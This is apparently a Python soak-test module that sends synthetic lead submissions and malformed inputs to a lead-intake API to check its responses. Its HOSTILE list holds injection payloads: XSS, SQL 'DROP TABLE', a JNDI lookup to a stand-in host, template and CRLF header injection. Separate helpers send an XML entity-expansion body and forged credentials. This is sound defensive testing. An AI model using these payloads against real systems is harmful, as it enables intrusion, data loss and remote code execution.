"""What each source sends: people who do not exist, the same for the same number."""

import json
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from random import Random
from typing import Any
from urllib.parse import urlencode

from infra.cli.posts import Post, as_json, as_xml, hook_post, partner_post
from infra.samples import Sample
from tests.soak.clients import Answer, Http, Request
from tests.soak.cloud import Cloud
from tests.soak.day import Arrival

JSON = {"Content-Type": "application/json"}
FORM = {"Content-Type": "application/x-www-form-urlencoded"}
COUNTRIES = ("SE", "NO", "DK", "FI", "DE", "GB", "IE", "NL", "US")
COMMON = (30, 18, 8, 6, 14, 10, 5, 6, 3)
PRODUCTS = ("heat pump", "solar panels", "insulation", "spare parts")
HOOKS = {
    "Google Ads": "google-ads",
    "TikTok, two at once": "tiktok",
    "Typeform": "typeform",
    "generic hook": "crm",
}
SAME_PERSON = 0.04  # of all come again under another key
SENT_AGAIN = 0.05  # of all are delivered twice, in the same words
RETURNED = 0.06  # of a partner's leads
HOSTILE = (
    "<script>alert(1)</script>",
    "Robert'); DROP TABLE leads;--",
    "‮evil‬ \u200b\ufeff name",  # turns the direction of writing  # noqa: PLE2502
    "{{7*7}} ${jndi:ldap://x.example/a} %00%0d%0aBcc: x@x.example",
    "\U0001d56c\U0001d589\U0001d586 \U0001f3f3\ufe0f\u200d\U0001f308 " * 15,
)


@dataclass
class Sent:
    """One sending, and what its client was told."""

    source: str
    number: int
    planned: float  # seconds since the day began
    began: float  # when it was first sent: seconds since 1970
    ended: float
    status: int
    tries: int
    lead_ids: list[str]
    code: str = ""  # a partner's answer; or which odd input
    price: str = ""
    wrong: str = ""  # what should not have been answered
    again: list[list[str]] = field(default_factory=list)  # what repeats were told


@dataclass
class Senders:
    """All who send, by source."""

    cloud: Cloud
    http: Http
    seed: int
    began: float = 0.0  # the day, in seconds since 1970
    sent: list[Sent] = field(default_factory=list)
    later: Callable[[float, Callable[[], object]], None] = lambda _, __: None
    prefix: str = "soak"

    def send(self, arrival: Arrival) -> Sent:
        """Send it, and again until it is answered; sometimes the whole of it once more later."""
        chance = Random(f"{self.seed}-{arrival.number}")
        if arrival.source == "odd input":
            return self._odd(arrival)
        request = self._request(arrival, chance)
        if request is None:  # the ping was refused: nothing is posted
            return self.sent[-1]
        answer = self.http.ask(request)
        sent = self._noted(arrival, answer)
        if answer.status not in (200, 201, 303):
            sent.wrong = f"answered {answer.status}: {answer.body[:150]!r}"
        if chance.random() < SENT_AGAIN:
            self.later(chance.uniform(1, 30), lambda: self._repeat(sent, request))
        if sent.source.startswith("partner") and sent.status == 201 and chance.random() < RETURNED:
            self.later(chance.uniform(5, 40), lambda: self._return(sent))
        return sent

    def _noted(self, arrival: Arrival, answer: Answer, code: str = "") -> Sent:
        said = _said(answer)
        sent = Sent(
            arrival.source,
            arrival.number,
            arrival.at,
            answer.tries[0].began,
            answer.tries[-1].ended,
            answer.status,
            len(answer.tries),
            _lead_ids(said),
            code or str(said.get("code", "")),
            str(said.get("price", "")),
        )
        self.sent.append(sent)
        return sent

    def _repeat(self, sent: Sent, request: Request) -> None:
        answer = self.http.ask(request)
        sent.again.append(_lead_ids(_said(answer)))
        if answer.status != sent.status and {answer.status, sent.status} - {200, 201}:
            sent.wrong = f"a repeat was answered {answer.status}, first {sent.status}"

    def _return(self, sent: Sent) -> None:
        partner = "bravo" if sent.source == "partner, signed" else "acme"
        body = as_json({"reason": "wrong_number", "note": "nobody there"})
        post = self._partner(partner, body, f"leads/{sent.lead_ids[0]}/returns")
        answer = self.http.ask(_as_request(post), again=frozenset({0, 429, *range(500, 600)}))
        if answer.status not in (200, 409):
            sent.wrong = f"its return was answered {answer.status}: {answer.body[:150]!r}"

    # ── What is sent ─────────────────────────────────────────────────────────────────────────────

    def person(self, number: int, chance: Random) -> dict[str, str]:
        """Who asks; a few have asked before."""
        who = number
        if chance.random() < SAME_PERSON:
            who = max(0, number - chance.randint(1, 40))
        return {
            "name": chance.choice(HOSTILE) if chance.random() < 0.01 else f"Ada Lind {number}",
            "email": f"ada.{self.prefix}.{who}@customer.example",
            "phone": f"+46 70 {174_00_00 + number % 10_000:07d}",
            "country": chance.choices(COUNTRIES, COMMON)[0],
            "product": chance.choice(PRODUCTS),
            "message": f"Request {number}: who can show us one, and what would it cost?",
        }

    def _request(  # noqa: PLR0911  (one for each source)
        self, arrival: Arrival, chance: Random
    ) -> Request | None:
        number, source = arrival.number, arrival.source
        said = self.person(number, chance)
        key = {"Idempotency-Key": f"{self.prefix}-{self.seed}-{number}"}
        match source:
            case "form as JSON":
                return _form("website", json.dumps(said).encode(), {**JSON, **key})
            case "form as browsers post it":  # without a key: its content is one for a minute
                return _form("website", urlencode(said).encode(), FORM)
            case "campaign page":
                said["utm_campaign"] = "evening"
                return _form("campaign", json.dumps(said).encode(), {**JSON, **key})
            case "partner, posts":
                said["lead_ref"] = f"A-{number}"
                sample = as_xml(said) if chance.random() < 0.2 else as_json(said)
                return _as_request(self._partner("acme", sample))
            case "partner, pings first":
                return self._after_ping(arrival, said, key)
            case "partner, signed":
                return _as_request(self._partner("bravo", as_json(said)))
            case _:
                return self.hook(HOOKS[source], number)

    def _after_ping(
        self, arrival: Arrival, said: dict[str, str], key: dict[str, str]
    ) -> Request | None:
        asked = as_json({"country": said["country"], "product": said["product"]})
        ping = self._partner("acme", asked, "pings")
        answer = self.http.ask(_as_request(ping, {"Idempotency-Key": f"p{key['Idempotency-Key']}"}))
        token = answer.json().get("ping_id")
        if token is None:
            sent = self._noted(arrival, answer)
            if answer.status != 200:
                sent.wrong = f"a ping was answered {answer.status}: {answer.body[:150]!r}"
            return None
        return _as_request(self._partner("acme", as_json({**said, "ping_id": token})), key)

    def _partner(self, partner: str, sample: Sample, to: str = "leads") -> Post:
        configured = self.cloud.config.partners[partner]
        proof = self.cloud.proofs[f"partner#{partner}"]
        return partner_post(self.cloud.api, partner, configured, sample, proof, to=to)

    def hook(self, hook: str, number: int) -> Request:
        """What a platform delivers."""
        secret = self.cloud.proofs[f"hook#{hook}"]
        configured = self.cloud.config.hooks[hook]
        return _as_request(hook_post(self.cloud.api, hook, configured, secret, 1000 + number))

    # ── Odd input ────────────────────────────────────────────────────────────────────────────────

    def _odd(self, arrival: Arrival) -> Sent:
        kinds = list(_ODD)
        kind = kinds[arrival.number % len(kinds)]
        make, expected = _ODD[kind]
        answer = self.http.ask(make(self, arrival.number))
        sent = self._noted(arrival, answer, kind)
        if answer.status not in expected:
            sent.wrong = f"{kind}: answered {answer.status}: {answer.body[:150]!r}"
        return sent


def _said(answer: Answer) -> dict[str, Any]:
    """The members of an answer; who posts XML is answered in XML."""
    if "xml" in answer.headers.get("content-type", ""):
        return dict(re.findall(r"<(\w+)>([^<]*)</\1>", answer.body.decode()))
    said = answer.json()
    return said if isinstance(said, dict) else {}


def _lead_ids(said: dict[str, Any]) -> list[str]:
    one = said.get("lead_id")
    return [str(one)] if one else [str(each) for each in said.get("lead_ids", ())]


def _form(form: str, body: bytes, headers: dict[str, str]) -> Request:
    return Request("POST", f"/v1/forms/{form}/leads", body, headers)


def _as_request(post: Post, more: dict[str, str] | None = None) -> Request:
    return Request("POST", f"/v1/{post.path}", post.body, {**post.headers, **(more or {})})


def _broken_json(senders: Senders, number: int) -> Request:
    return _form("website", b'{"name": "cut off %d", "ema' % number, JSON)


def _no_text(senders: Senders, number: int) -> Request:
    return _form("website", b"name=%%ff%%fe%d&email=\xff\xfe" % number, FORM)


def _huge(senders: Senders, number: int) -> Request:
    said = {"email": f"huge{number}@customer.example", "message": "x" * 90_000}
    return _form("website", json.dumps(said).encode(), JSON)


def _nobody(senders: Senders, number: int) -> Request:
    return _form("website", json.dumps({"name": f"Nobody {number}"}).encode(), JSON)


def _robot(senders: Senders, number: int) -> Request:
    said = {"email": f"robot{number}@customer.example", "website_url": "https://spam.example"}
    return _form("website", json.dumps(said).encode(), JSON)


def _unknown_form(senders: Senders, number: int) -> Request:
    return _form("no-such-form", b"{}", JSON)


def _wrong_key(senders: Senders, number: int) -> Request:
    said = json.dumps({"name": "Eve", "email": f"eve{number}@customer.example"}).encode()
    return Request("POST", "/v1/partners/acme/leads", said, {**JSON, "X-Api-Key": "lw_guessed"})


def _forged(senders: Senders, number: int) -> Request:
    request = senders.hook("tiktok", number)
    return request._replace(body=(request.body or b"") + b" ")


def _odd_delivery(senders: Senders, number: int) -> Request:
    request = senders.hook("crm", number)
    return request._replace(body=b'{"deal": [%d, null], "person": 7}' % number)


def _bomb(senders: Senders, number: int) -> Request:
    body = b'<!DOCTYPE x [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><lead><name>%d&b;</name></lead>'
    return _form("website", body % number, {"Content-Type": "application/xml"})


# What is sent, and the statuses that answer it rightly.
_ODD: dict[str, tuple[Callable[[Senders, int], Request], frozenset[int]]] = {
    "JSON that is cut off": (_broken_json, frozenset({201})),
    "bytes that are no text": (_no_text, frozenset({201, 422})),
    "a message of 90 kB": (_huge, frozenset({413})),
    "no way to reach anybody": (_nobody, frozenset({422})),
    "a robot": (_robot, frozenset({201})),
    "a form that is not there": (_unknown_form, frozenset({404})),
    "a guessed key": (_wrong_key, frozenset({401})),
    "a forged signature": (_forged, frozenset({401})),
    "a delivery of another shape": (_odd_delivery, frozenset({200})),
    "XML with entities": (_bomb, frozenset({201, 415, 422})),
}
